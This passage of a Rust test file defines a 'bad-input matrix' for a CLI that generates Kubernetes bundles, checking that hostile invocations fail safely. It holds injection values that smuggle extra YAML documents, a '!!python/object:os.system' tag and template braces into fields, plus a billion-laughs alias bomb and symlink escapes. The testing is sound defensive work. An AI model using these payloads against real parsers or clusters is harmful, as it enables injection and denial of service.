//! The bad-input matrix (issue #7): one table of hostile and mistaken
//! invocations across every command, each run as a whole CLI process in a
//! fresh temporary directory under a deadline. For every row the runner
//! checks the exit code, that stderr names the problem, that nothing
//! panicked or hung, and that the directory tree (paths, kinds, modes, link
//! targets, file bytes) is the same afterwards except where the row says it
//! may write. Rows whose outcome depends on privileges say what root gets
//! and what an unprivileged user gets; as root the runner checks both, the
//! second time with the process dropped to uid/gid 65534.

mod common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

/// How long one run may take before it counts as a hang.
const DEADLINE: Duration = Duration::from_secs(20);

/// The four classes of issue #7.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Class {
    /// Data loss, or writes outside the target.
    Writes,
    /// Injection into what is written, and secrets in what is printed.
    Secrets,
    /// Crashes, hangs and unbounded memory.
    Crash,
    /// Input that must be refused (or accepted) as documented.
    Accepts,
}
use Class::*;

/// What a row prepares in its temporary directory before the run. Paths
/// are relative to the temporary directory; texts and link targets have
/// their placeholders expanded (see [`expand`]).
#[derive(Clone, Copy)]
enum Setup {
    File(&'static str, &'static str),
    Gen(&'static str, fn() -> Vec<u8>),
    Dir(&'static str),
    Fifo(&'static str),
    Link(&'static str, &'static str),
    Mode(&'static str, u32),
    /// The eks/h100/training/ubuntu recipe.
    Recipe(&'static str),
    /// That recipe with its first `from` replaced by `to`.
    RecipeEdit(&'static str, &'static str, &'static str),
    /// A copy of the helm bundle of that recipe.
    Bundle(&'static str),
    /// A copy of a file or directory under tests/fixtures.
    Fixture(&'static str, &'static str),
    /// Removes a file or a whole directory made by an earlier step.
    Remove(&'static str),
    /// A sparse file of this many bytes (nothing is written to disk).
    Sparse(&'static str, u64),
    /// `n` overlays in this directory, `o1` based on `base` and each next
    /// one on the one before.
    Chain(&'static str, usize),
}
use Setup::*;

/// The row's standard streams.
#[derive(Clone, Copy)]
enum Io {
    Normal,
    Stdin(&'static str),
    StdinGen(fn() -> Vec<u8>),
    StdinZero,
    /// stdout is a pipe whose reader is gone.
    StdoutClosed,
    /// stderr is a pipe whose reader is gone (so stderr is not checked).
    StderrClosed,
    /// stdout is /dev/full.
    StdoutFull,
}

/// What else a row checks after the run.
#[derive(Clone, Copy)]
enum Check {
    None,
    /// None of these strings appears on stdout, stderr or in written files.
    NoSecret(&'static [&'static str]),
    /// The bundle in `out/` has, in every manifest, the documents and kinds
    /// of the bundle made without hostile values; and the dcgm-exporter
    /// ConfigMap is named exactly this string.
    Manifests(Option<&'static str>),
    /// `out/COMPONENT/values.yaml` is one document and holds this string at
    /// this JSON pointer.
    Value(&'static str, &'static str, &'static str),
    /// stdout contains this text.
    Stdout(&'static str),
    /// stdout is empty.
    NoStdout,
    /// None of these files under `out/` holds this text.
    Absent(&'static [&'static str], &'static str),
}

#[derive(Clone, Copy)]
struct Row {
    name: &'static str,
    class: Class,
    args: &'static [&'static str],
    setup: &'static [Setup],
    io: Io,
    env: &'static [(&'static str, &'static str)],
    /// Exit code and a piece of stderr, for an unprivileged user (and for
    /// root where `root` is None).
    code: i32,
    msg: &'static str,
    /// What root gets instead, where privileges change the outcome.
    root: Option<(i32, &'static str)>,
    /// Paths (relative to the temporary directory) that may change.
    writes: &'static [&'static str],
    check: Check,
}

const R: Row = Row {
    name: "",
    class: Accepts,
    args: &[],
    setup: &[],
    io: Io::Normal,
    env: &[],
    code: 2,
    msg: "",
    root: None,
    writes: &[],
    check: Check::None,
};

const EKS: [&str; 8] = [
    "--service",
    "eks",
    "--accelerator",
    "h100",
    "--intent",
    "training",
    "--os",
    "ubuntu",
];

const REGISTRY: &str =
    "apiVersion: aicr.nvidia.com/v1alpha1\nkind: ComponentRegistry\ncomponents: []\n";

const SECRETS: &[&str] = &[
    "hunter2",
    "123456",
    "AKIAIOSFODNN7EXAMPLE",
    "eyJhbGciOiJIUzI1NiJ9",
    "proxyuser",
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "0123456789abcdef0123456789abcdef",
];

// ---------------------------------------------------------------------------
// Generated inputs.

fn deep_json() -> Vec<u8> {
    format!(
        "{{\"kind\": \"RecipeCriteria\", \"apiVersion\": \"aicr.nvidia.com/v1alpha1\", \"spec\": {{\"x\": {}{}}}}}",
        "[".repeat(200_000),
        "]".repeat(200_000)
    )
    .into_bytes()
}

fn deep_flow_yaml() -> Vec<u8> {
    format!(
        "kind: Snapshot\napiVersion: aicr.nvidia.com/v1alpha1\nmeasurements: {}{}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    )
    .into_bytes()
}

fn deep_block_yaml() -> Vec<u8> {
    let mut s = String::from("kind: RecipeResult\napiVersion: aicr.nvidia.com/v1alpha1\nx:\n");
    for i in 0..5_000 {
        s.push_str(&" ".repeat(i + 1));
        s.push_str("a:\n");
    }
    s.into_bytes()
}

fn deep_block_seq() -> Vec<u8> {
    let mut s =
        String::from("kind: Snapshot\napiVersion: aicr.nvidia.com/v1alpha1\nmeasurements:\n");
    for i in 0..5_000 {
        s.push_str(&" ".repeat(i));
        s.push_str("-\n");
    }
    s.into_bytes()
}

/// Aliases that expand to 10^9 nodes (the "billion laughs").
fn alias_bomb() -> Vec<u8> {
    let mut s = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..10 {
        let p = i - 1;
        s.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    s.push_str(
        "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: *a9\n",
    );
    s.into_bytes()
}

fn over_cap() -> Vec<u8> {
    let mut v = b"kind: RecipeCriteria\n#".to_vec();
    v.resize(16 * 1024 * 1024 + 10, b'x');
    v
}

fn huge_modules() -> Vec<u8> {
    "nvidia 1 0 - Live 0x0\n".repeat(400_000).into_bytes()
}

fn binary_junk() -> Vec<u8> {
    (0..4096u32).map(|i| (i * 7919 % 251) as u8).collect()
}

fn criteria_utf16() -> Vec<u8> {
    let mut v = vec![0xFF, 0xFE];
    for u in "kind: RecipeCriteria\n".encode_utf16() {
        v.extend(u.to_le_bytes());
    }
    v
}

/// Overlay `o{i}` of a spec.base chain (see [`Setup::Chain`]).
fn chain_overlay(i: usize) -> String {
    let base = if i == 1 {
        "base".to_string()
    } else {
        format!("o{}", i - 1)
    };
    format!("kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: o{i}\nspec:\n  base: {base}\n")
}

/// Named generated arguments, used as `{gen:NAME}`.
fn gen_arg(name: &str) -> String {
    match name {
        "deep_set" => format!("gpu-operator:{}=1", vec!["a"; 40_000].join(".")),
        "deep_set_65" => format!("gpu-operator:{}=1", vec!["a"; 65].join(".")),
        "deep_index" => format!("gpu-operator:env{}=1", "[0]".repeat(10_000)),
        "deep_set_json" => format!(
            "gpu-operator:x={}{}",
            "[".repeat(50_000),
            "]".repeat(50_000)
        ),
        "deep_set_json_obj" => format!(
            "gpu-operator:x={}1{}",
            "{\"a\":".repeat(200),
            "}".repeat(200)
        ),
        "deep_selector" => vec!["a"; 40_000].join("."),
        "long_value" => format!("gpu-operator:x={}", "v".repeat(120_000)),
        "long_name" => "x".repeat(300),
        "long_key_selector" => format!("components.{}", "k".repeat(120_000)),
        "long_selector_value" => format!("a={}", "v".repeat(120_000)),
        other => panic!("no generated argument {other}"),
    }
}

// ---------------------------------------------------------------------------
// The rows.

const ROWS: &[Row] = &[
    // ===== Class 1: data loss and writes outside the target ================
    // bundle -o onto what is not an earlier bundle.
    Row {
        name: "bundle_o_dir_with_stray_checksums",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/d"],
        setup: &[Dir("d"), File("d/checksums.txt", ""), File("d/notes.doc", "mine")],
        msg: "it has a checksums.txt but no .aicr-bundle marker, so aicr did not write it",
        ..R
    },
    Row {
        name: "bundle_o_dir_with_foreign_checksums",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/d"],
        setup: &[
            Dir("d"),
            File("d/checksums.txt", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  notes.doc\n"),
            File("d/notes.doc", ""),
        ],
        msg: "it has a checksums.txt but no .aicr-bundle marker, so aicr did not write it",
        ..R
    },
    Row {
        name: "bundle_o_git_checkout_colliding_readme",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/g"],
        setup: &[Dir("g/.git"), File("g/.git/HEAD", "ref: refs/heads/main\n"), File("g/README.md", "mine\n")],
        msg: "README.md was not written by aicr, and the new bundle writes that path",
        ..R
    },
    Row {
        name: "bundle_o_git_checkout_colliding_deploy_sh",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/g"],
        setup: &[Dir("g/.git"), File("g/deploy.sh", "#!/bin/sh\necho mine\n")],
        msg: "deploy.sh was not written by aicr",
        ..R
    },
    Row {
        name: "bundle_o_git_checkout_colliding_component_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/g"],
        setup: &[Dir("g/.git"), Dir("g/gpu-operator"), File("g/gpu-operator/values.yaml", "mine: 1\n")],
        msg: "was not written by aicr",
        ..R
    },
    Row {
        name: "bundle_o_git_checkout_other_files_kept",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/g"],
        setup: &[Dir("g/.git"), File("g/.git/HEAD", "ref: refs/heads/main\n"), File("g/OWNERS", "me\n")],
        code: 0,
        writes: &["g/"],
        check: Check::Stdout(""),
        ..R
    },
    Row {
        name: "bundle_o_stray_file_in_component_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), File("b/gpu-operator/mine.txt", "keep me\n")],
        msg: "gpu-operator/mine.txt was not written by aicr, and aicr replaces the bundle's own directories whole",
        ..R
    },
    Row {
        name: "bundle_o_stray_file_in_manifests_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), File("b/gpu-operator/manifests/mine.yaml", "kind: X\n")],
        msg: "gpu-operator/manifests/mine.yaml was not written by aicr",
        ..R
    },
    Row {
        name: "bundle_o_edited_bundle_file",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), File("b/gpu-operator/values.yaml", "edited: by hand\n")],
        msg: "gpu-operator/values.yaml changed since aicr wrote them (they no longer match checksums.txt;",
        ..R
    },
    Row {
        name: "bundle_o_edited_bundle_file_force",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b", "--force"],
        setup: &[Bundle("b"), File("b/gpu-operator/values.yaml", "edited: by hand\n")],
        code: 0,
        writes: &["b/gpu-operator/values.yaml"],
        check: Check::Stdout("Bundle written to"),
        ..R
    },
    Row {
        name: "bundle_o_extra_link_at_bundle_root_is_kept",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Dir("outside"), File("outside/precious", "p"), Link("b/extra-link", "{tmp}/outside")],
        code: 0,
        check: Check::Stdout("Bundle unchanged"),
        ..R
    },
    Row {
        name: "bundle_o_link_inside_component_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Dir("outside"), File("outside/precious", "p"), Link("b/gpu-operator/extra", "{tmp}/outside")],
        msg: "gpu-operator/extra was not written by aicr, and aicr replaces the bundle's own directories whole",
        ..R
    },
    Row {
        name: "bundle_o_component_dir_is_link_out",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Dir("outside"), File("outside/precious", "p"), Remove("b/aws-efa"), Link("b/aws-efa", "{tmp}/outside")],
        msg: "aws-efa is not the directory aicr wrote (a link or a file is in its place)",
        ..R
    },
    Row {
        name: "bundle_o_component_dir_is_a_file",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Remove("b/aws-efa"), File("b/aws-efa", "my notes\n")],
        msg: "aws-efa is not the directory aicr wrote (a link or a file is in its place)",
        ..R
    },
    Row {
        name: "bundle_o_manifests_dir_is_link_out",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Dir("outside"), File("outside/precious", "p"), Remove("b/gpu-operator/manifests"), Link("b/gpu-operator/manifests", "{tmp}/outside")],
        msg: "gpu-operator/manifests is not the directory aicr wrote",
        ..R
    },
    Row {
        name: "bundle_o_bundle_file_is_fifo",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Remove("b/deploy.sh"), Fifo("b/deploy.sh")],
        code: 0,
        writes: &["b/deploy.sh"],
        check: Check::Stdout("Bundle written to"),
        ..R
    },
    Row {
        name: "bundle_o_bundle_file_is_link_out",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), File("outside.sh", "#!/bin/sh\necho mine\n"), Remove("b/gpu-operator/values.yaml"), Link("b/gpu-operator/values.yaml", "{tmp}/outside.sh")],
        code: 0,
        writes: &["b/gpu-operator/values.yaml"],
        check: Check::Stdout("Bundle written to"),
        ..R
    },
    Row {
        name: "bundle_o_symlink_to_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/link"],
        setup: &[Dir("target"), File("target/precious", "p"), Link("link", "{tmp}/target")],
        msg: "is a symbolic link; give the real directory",
        ..R
    },
    Row {
        name: "bundle_o_symlink_to_bundle",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/link"],
        setup: &[Bundle("b"), Link("link", "{tmp}/b")],
        msg: "is a symbolic link; give the real directory",
        ..R
    },
    Row {
        name: "bundle_o_dangling_symlink",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/link"],
        setup: &[Link("link", "{tmp}/nowhere")],
        msg: "is a symbolic link",
        ..R
    },
    Row {
        name: "bundle_o_dev_null",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "/dev/null"],
        msg: "exists and is not a directory",
        ..R
    },
    Row {
        name: "bundle_o_fifo",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "exists and is not a directory",
        ..R
    },
    Row {
        name: "bundle_o_regular_file",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/file"],
        setup: &[File("file", "precious\n")],
        msg: "exists and is not a directory",
        ..R
    },
    Row {
        name: "bundle_o_dot",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "."],
        setup: &[File("cwd/mine.txt", "mine")],
        msg: "output .: is the current directory or one above it",
        ..R
    },
    Row {
        name: "bundle_o_dot_empty_cwd",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "."],
        msg: "output .: is the current directory or one above it",
        ..R
    },
    Row {
        name: "bundle_o_dotdot",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", ".."],
        msg: "output ..: is the current directory or one above it",
        ..R
    },
    Row {
        name: "bundle_o_sub_dotdot",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "sub/.."],
        setup: &[Dir("cwd/sub"), File("cwd/mine.txt", "mine")],
        msg: "output sub/..: is the current directory or one above it",
        ..R
    },
    Row {
        name: "bundle_o_link_dotdot",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/a/link/.."],
        setup: &[Dir("x/y"), Dir("a"), File("a/mine.txt", "keep"), Link("a/link", "{tmp}/x/y")],
        msg: "is a directory that is not an aicr bundle",
        ..R
    },
    Row {
        name: "bundle_o_root_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "/"],
        msg: "output /: is the root directory",
        ..R
    },
    Row {
        name: "bundle_o_empty_path",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", ""],
        msg: "a value is required for '--output <DIR>'",
        ..R
    },
    Row {
        name: "bundle_o_under_a_file",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/file/sub"],
        setup: &[File("file", "precious\n")],
        msg: "parent {tmp}/file is not a directory",
        ..R
    },
    Row {
        name: "bundle_o_missing_parents",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/a/b/c"],
        code: 2,
        writes: &["a"],
        msg: "parent directory {tmp}/a/b does not exist",
        ..R
    },
    Row {
        name: "bundle_o_read_only_parent",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/ro/out"],
        setup: &[Dir("ro"), Mode("ro", 0o555)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        writes: &["ro/out"],
        ..R
    },
    Row {
        name: "bundle_o_checksums_is_link",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/d"],
        setup: &[Dir("d"), File("secret", "s"), Link("d/checksums.txt", "{tmp}/secret")],
        msg: "is a directory that is not an aicr bundle",
        ..R
    },
    Row {
        name: "bundle_default_o_is_not_cwd",
        class: Writes,
        args: &["bundle", "-r", "{R}"],
        setup: &[File("cwd/mine.txt", "mine")],
        code: 0,
        writes: &["cwd/bundle"],
        ..R
    },
    Row {
        name: "bundle_failed_run_leaves_old_bundle",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b", "--set", "nosuch:x=1"],
        setup: &[Bundle("b")],
        msg: "--set names component \"nosuch\", which is not in the component registry",
        ..R
    },
    Row {
        name: "bundle_verify_flag_writes_nothing",
        class: Writes,
        args: &["bundle", "--verify", "{tmp}/b", "-o", "{tmp}/other"],
        setup: &[Bundle("b")],
        msg: "--verify DIR checks a bundle and takes no other flag of bundle; drop --output",
        ..R
    },
    // -o FILE for recipe, snapshot and diff; query has no -o.
    Row {
        name: "recipe_o_symlink_writes_through",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/link"],
        setup: &[File("target", "old\n"), Link("link", "{tmp}/target")],
        code: 0,
        writes: &["target"],
        ..R
    },
    Row {
        name: "recipe_o_dangling_symlink",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/link"],
        setup: &[Link("link", "{tmp}/nowhere")],
        code: 0,
        writes: &["nowhere"],
        ..R
    },
    Row {
        name: "recipe_o_symlink_loop",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/loop"],
        setup: &[Link("loop", "{tmp}/loop")],
        msg: "Too many levels of symbolic links",
        ..R
    },
    Row {
        name: "recipe_o_fifo_no_reader",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "is a FIFO with no reader",
        ..R
    },
    Row {
        name: "recipe_o_dev_null",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "/dev/null"],
        code: 0,
        check: Check::NoStdout,
        ..R
    },
    Row {
        name: "recipe_o_directory",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/d"],
        setup: &[Dir("d"), File("d/keep", "k")],
        msg: "d: is a directory; give a file path",
        ..R
    },
    Row {
        name: "recipe_o_empty_path",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", ""],
        msg: "the output path is empty",
        ..R
    },
    Row {
        name: "recipe_o_missing_parent",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/no/such/r.yaml"],
        code: 2,
        msg: "directory {tmp}/no/such does not exist",
        ..R
    },
    Row {
        name: "recipe_o_under_a_file",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/file/r.yaml"],
        setup: &[File("file", "precious\n")],
        msg: "directory {tmp}/file does not exist",
        ..R
    },
    Row {
        name: "recipe_o_name_too_long",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/{gen:long_name}"],
        msg: "File name too long",
        ..R
    },
    Row {
        name: "bundle_o_name_too_long",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/{gen:long_name}"],
        msg: "File name too long",
        ..R
    },
    Row {
        name: "diff_name_too_long",
        class: Accepts,
        args: &["diff", "{R}", "{tmp}/{gen:long_name}"],
        msg: "File name too long",
        ..R
    },
    Row {
        name: "verify_name_too_long",
        class: Accepts,
        args: &["verify", "{tmp}/{gen:long_name}"],
        msg: "File name too long",
        ..R
    },
    Row {
        name: "recipe_o_read_only_dir",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "{tmp}/ro/r.yaml"],
        setup: &[Dir("ro"), Mode("ro", 0o555)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        writes: &["ro/r.yaml"],
        ..R
    },
    Row {
        name: "recipe_o_failed_run_keeps_old_file",
        class: Writes,
        args: &["recipe", "--service", "oke", "-o", "{tmp}/r.yaml"],
        setup: &[File("r.yaml", "old\n")],
        msg: "no overlay supports --service oke",
        ..R
    },
    Row {
        name: "recipe_o_dash_is_stdout",
        class: Writes,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "-o", "-"],
        code: 0,
        check: Check::Stdout("kind: RecipeResult"),
        ..R
    },
    Row {
        name: "snapshot_o_symlink_writes_through",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "{tmp}/link"],
        setup: &[File("target", "old\n"), Link("link", "{tmp}/target")],
        code: 0,
        writes: &["target"],
        ..R
    },
    Row {
        name: "snapshot_o_fifo_no_reader",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "is a FIFO with no reader",
        ..R
    },
    Row {
        name: "snapshot_o_dev_null",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "/dev/null"],
        code: 0,
        check: Check::NoStdout,
        ..R
    },
    Row {
        name: "snapshot_o_directory",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "{tmp}/d"],
        setup: &[Dir("d")],
        msg: "d: is a directory; give a file path",
        ..R
    },
    Row {
        name: "snapshot_o_empty_path",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", ""],
        msg: "the output path is empty",
        ..R
    },
    Row {
        name: "snapshot_o_missing_parent",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "{tmp}/no/s.yaml"],
        code: 2,
        msg: "directory {tmp}/no does not exist",
        ..R
    },
    Row {
        name: "snapshot_o_read_only_dir",
        class: Writes,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-o", "{tmp}/ro/s.yaml"],
        setup: &[Dir("ro"), Mode("ro", 0o555)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        writes: &["ro/s.yaml"],
        ..R
    },
    Row {
        name: "diff_o_symlink_writes_through",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "{tmp}/link"],
        setup: &[File("target", "old\n"), Link("link", "{tmp}/target")],
        code: 0,
        writes: &["target"],
        ..R
    },
    Row {
        name: "diff_o_fifo_no_reader",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "is a FIFO with no reader; start the reader first, or give a file path",
        ..R
    },
    Row {
        name: "diff_o_dev_null",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "/dev/null"],
        code: 0,
        check: Check::NoStdout,
        ..R
    },
    Row {
        name: "diff_o_directory",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "{tmp}/d"],
        setup: &[Dir("d")],
        msg: "d: is a directory; give a file path",
        ..R
    },
    Row {
        name: "diff_o_empty_path",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", ""],
        msg: "the output path is empty; give a file path, or - for standard output",
        ..R
    },
    Row {
        name: "diff_o_missing_parent",
        class: Writes,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "{tmp}/no/d.txt"],
        code: 2,
        msg: "directory {tmp}/no does not exist",
        ..R
    },
    Row {
        name: "diff_o_onto_its_own_input",
        class: Writes,
        args: &["diff", "{tmp}/a.yaml", "{fx}/diff/snapshot-after.yaml", "-o", "{tmp}/a.yaml"],
        setup: &[Fixture("diff/snapshot-before.yaml", "a.yaml")],
        code: 0,
        writes: &["a.yaml"],
        ..R
    },
    Row {
        name: "query_has_no_o",
        class: Writes,
        args: &["query", "--service", "eks", "--selector", "criteria", "-o", "{tmp}/q.yaml"],
        msg: "unexpected argument '-o'",
        ..R
    },
    Row {
        name: "verify_has_no_o",
        class: Writes,
        args: &["verify", "{tmp}/b", "-o", "{tmp}/q.yaml"],
        setup: &[Bundle("b")],
        msg: "unexpected argument '-o'",
        ..R
    },
    Row {
        name: "completion_has_no_o",
        class: Writes,
        args: &["completion", "bash", "-o", "{tmp}/c.sh"],
        msg: "unexpected argument '-o'",
        ..R
    },
    // ===== Class 2: injection and secrets ==================================
    Row {
        name: "set_string_newline_document_marker",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpuoperator:dcgmExporter.config.name=a\n---\napiVersion: v1\nkind: Secret"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("a\n---\napiVersion: v1\nkind: Secret")),
        ..R
    },
    Row {
        name: "set_newline_document_marker",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpuoperator:dcgmExporter.config.name=x\n---\nkind: ClusterRoleBinding\n"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("x\n---\nkind: ClusterRoleBinding\n")),
        ..R
    },
    Row {
        name: "set_string_yaml_flow_breaker",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpuoperator:dcgmExporter.config.name={a: [b, *c], d: &e f} # x"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("{a: [b, *c], d: &e f} # x")),
        ..R
    },
    Row {
        name: "set_string_quotes_and_tags",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpuoperator:dcgmExporter.config.name=\"' !!python/object:os.system ''"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("\"' !!python/object:os.system ''")),
        ..R
    },
    Row {
        name: "set_string_jinja_braces",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpuoperator:dcgmExporter.config.name={{ 7*7 }}{% raw %}"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("{{ 7*7 }}{% raw %}")),
        ..R
    },
    Row {
        name: "set_string_document_end_and_bom",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpuoperator:dcgmExporter.config.name=...\n\u{feff}%YAML 1.1\n\u{2028}x"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("...\n\u{feff}%YAML 1.1\n\u{2028}x")),
        ..R
    },
    Row {
        name: "set_json_string_with_documents",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "gpuoperator:dcgmExporter.config.name=\"z\\n---\\nkind: Namespace\""],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(Some("z\n---\nkind: Namespace")),
        ..R
    },
    Row {
        name: "set_json_object_where_name_goes",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "gpuoperator:dcgmExporter.config.name={\"kind\":\"Secret\",\"x\":[1]}"],
        code: 0,
        writes: &["out"],
        check: Check::Manifests(None),
        ..R
    },
    Row {
        name: "set_string_values_yaml_stays_one_document",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpu-operator:driver.version=1\n---\nx: 1"],
        code: 0,
        writes: &["out"],
        check: Check::Value("gpu-operator", "/driver/version", "1\n---\nx: 1"),
        ..R
    },
    Row {
        name: "set_key_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpu-operator:\"a\n---\nb\"=1"],
        code: 0,
        writes: &["out"],
